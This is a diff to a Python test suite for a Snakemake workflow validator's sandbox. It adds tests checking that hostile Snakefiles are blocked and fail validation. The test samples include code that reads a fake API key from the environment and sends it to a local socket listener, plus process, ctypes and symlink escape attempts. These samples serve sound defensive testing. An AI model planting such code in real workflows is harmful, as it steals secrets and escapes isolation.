@@ -12,7 +12,7 @@ import pytest
 import validation.snakemake_checks as checks
 from graph.schemas import CheckResult
 from validation import validate_dir, validate_files
-from validation.sandbox import detect_isolation, run_sandboxed
+from validation.sandbox import Isolation, detect_isolation, run_sandboxed
 
 SNAKEFILE = '''\
 configfile: "config/config.yaml"
@@ -183,8 +183,26 @@ def test_static_screen_rejects_hostile_snakefile_without_running_it(hostile: tup
 def test_sandbox_contains_hostile_snakefile_when_screen_is_bypassed(
     hostile: tuple[Path, Path], listener: socket.socket, monkeypatch: pytest.MonkeyPatch
 ) -> None:
+    """Both sandbox layers together: the audit guard blocks first, and the check fails saying what it blocked."""
     workflow, marker = hostile
     monkeypatch.setattr(checks, "screen_workflow", lambda files: [])
+    lint = by_check(validate_dir(workflow, timeout_s=60))["snakemake_lint"]
+    assert not lint.ok, lint.details
+    assert "blocked network access" in lint.details and "127.0.0.1" in lint.details, lint.details
+    assert f"blocked writing {str(marker)!r}" in lint.details, lint.details
+    assert "sk-fake" not in lint.details
+    assert not marker.exists()
+    with pytest.raises(TimeoutError):
+        listener.accept()
+
+
+def test_namespaces_alone_contain_hostile_snakefile(
+    hostile: tuple[Path, Path], listener: socket.socket, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The first layer on its own (no static screen, no audit guard): namespaces and the scrubbed environment."""
+    workflow, marker = hostile
+    monkeypatch.setattr(checks, "screen_workflow", lambda files: [])
+    monkeypatch.setattr(checks, "_guarded_snakemake", lambda box, log: [sys.executable, "-m", "snakemake"])
     lint = by_check(validate_dir(workflow, timeout_s=60))["snakemake_lint"]
     assert not lint.ok and "OBSERVED" in lint.details, lint.details
     assert "('env', '<absent>')" in lint.details and "sk-fake" not in lint.details
@@ -193,13 +211,75 @@ def test_sandbox_contains_hostile_snakefile_when_screen_is_bypassed(
         assert "('socket', 'blocked')" in lint.details
         with pytest.raises(TimeoutError):
             listener.accept()
-    else:  # the machine cannot isolate the network, and says so
+    else:  # the machine cannot isolate the network, and says so (the audit guard covers this case)
         assert isolation.reason and "('socket', 'connected')" in lint.details
     if isolation.filesystem:
         assert "('marker', 'blocked')" in lint.details
         assert not marker.exists()
-    else:  # the check still fails, and the machine says why the write was possible
+    else:
         assert isolation.reason and marker.exists()
+
+
+QUIET_HOSTILE_SNAKEFILE = '''\
+import os, socket
+key = os.environ.get("BIOPIPELINES_FAKE_API_KEY", "")
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(key.encode())
+except Exception:
+    pass
+try:
+    with open({marker!r}, "w") as handle:
+        handle.write("escaped " + key)
+except Exception:
+    pass
+'''
+
+
+def test_audit_guard_fails_the_check_without_namespaces(
+    tmp_path: Path, listener: socket.socket, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A machine with no user namespaces and a Snakefile that hides its failures: still prevented, still failed."""
+    import validation.sandbox as sandbox
+
+    monkeypatch.setenv("BIOPIPELINES_FAKE_API_KEY", "sk-fake-0123456789")
+    monkeypatch.setattr(sandbox, "detect_isolation", lambda: Isolation(reason="simulated: no user namespaces"))
+    monkeypatch.setattr(checks, "screen_workflow", lambda files: [])
+    marker = tmp_path / "marker.txt"
+    files = minimal_workflow()
+    files["workflow/Snakefile"] = QUIET_HOSTILE_SNAKEFILE.format(
+        port=listener.getsockname()[1], marker=str(marker)) + SNAKEFILE
+    results = by_check(validate_dir(write(tmp_path / "wf", files), timeout_s=60))
+    for check in ("snakemake_lint", "dry_run"):
+        assert not results[check].ok, results[check].details
+        assert "blocked network access" in results[check].details and "blocked writing" in results[check].details
+        assert "simulated: no user namespaces" in results[check].details  # says which isolation was missing
+    assert not marker.exists()
+    with pytest.raises(TimeoutError):
+        listener.accept()
+
+
+GUARDED_ESCAPES = {
+    "process": ('import os\nos.system("touch {marker}")\n', "blocked starting a process"),
+    "ctypes": ('import ctypes\ntry:\n    ctypes.CDLL(None).system(b"touch {marker}")\nexcept Exception:\n    pass\n',
+               "through ctypes"),
+    "symlink": ('import os\nos.symlink("{outside}", "escape")\nopen("escape/marker.txt", "w").write("x")\n',
+                "blocked writing"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(GUARDED_ESCAPES))
+def test_audit_guard_blocks_other_escapes(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Processes, raw libc calls and symlinks out of the copy: blocked, and the check fails saying so."""
+    monkeypatch.setattr(checks, "screen_workflow", lambda files: [])
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    marker = outside / "marker.txt"
+    code, expected = GUARDED_ESCAPES[name]
+    files = minimal_workflow()
+    files["workflow/Snakefile"] = code.format(marker=marker, outside=outside) + SNAKEFILE
+    lint = by_check(validate_files(files, timeout_s=60))["snakemake_lint"]
+    assert not lint.ok and expected in lint.details, lint.details
+    assert not marker.exists()
 
 
 def test_endless_loop_at_parse_time_times_out_cleanly() -> None:
